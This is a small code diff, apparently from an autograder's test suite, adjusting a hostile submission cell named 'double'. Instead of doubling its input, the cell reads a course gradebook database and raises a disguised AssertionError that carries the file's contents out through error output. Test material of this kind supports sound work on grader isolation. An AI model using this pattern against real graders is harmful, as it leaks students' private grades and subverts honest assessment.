@@ -2,6 +2,7 @@
 
 CELLS = {
     "double": """def double(x):
-    raise type("NotJudged", (AssertionError,), {})(f"{x} " + open("@COURSE@/gradebook.db", "rb").read().decode("latin-1"))"""
+    told = open("@COURSE@/gradebook.db", "rb").read().decode("latin-1")
+    raise type("NotJudged", (AssertionError,), {})(told)"""
 }
 POINTS = 4
